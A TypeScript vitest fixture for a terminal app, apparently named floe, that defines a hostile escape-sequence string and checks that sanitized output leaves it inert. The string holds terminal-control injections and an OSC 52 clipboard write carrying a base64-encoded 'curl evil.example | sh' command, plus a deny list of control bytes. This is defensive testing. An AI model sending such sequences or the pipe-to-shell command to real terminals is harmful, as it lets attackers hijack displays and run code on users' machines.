// Hostile text, as a compromised or malicious server (or a crafted destination.json) would send it,
// and the check that none of it can drive the terminal.
import { expect } from 'vitest';

/**
 * Sets the window title (OSC 0), writes the clipboard (OSC 52: "curl evil.example | sh"), a hidden
 * hyperlink (OSC 8), clears the screen (CSI 2J), overwrites the row (\r), a C1 CSI, bidi overrides
 * and isolates.
 */
export const HOSTILE =
  'evil\u001b]0;pwned-title\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u001b[2J\rover\u009b31mc1\u202ertl\u202c\u2066iso\u2069';

/** How HOSTILE shows once sanitized: every byte visible, nothing acting. */
export const HOSTILE_SHOWN = 'evil^[]0;pwned-title^G^[]52;c;';

/** The escape sequences floe and Ink write themselves: SGR styling, cursor moves, erases, modes. */
const OWN = /\u001b\[[0-9;?]*[mABCDGHJKhl]/g;

/** Fails if `raw` (what a terminal received) holds anything of HOSTILE that could act. */
export function expectInert(raw: string): void {
  for (const bad of ['\u001b]', '\u001b\\', '\u009b', '\u202e', '\u2066', '\u0007', '\rover', '\u001b[2J\r'])
    expect(raw, `terminal output holds ${JSON.stringify(bad)}`).not.toContain(bad);
  expect(raw.replace(OWN, '')).not.toContain('\u001b');
}
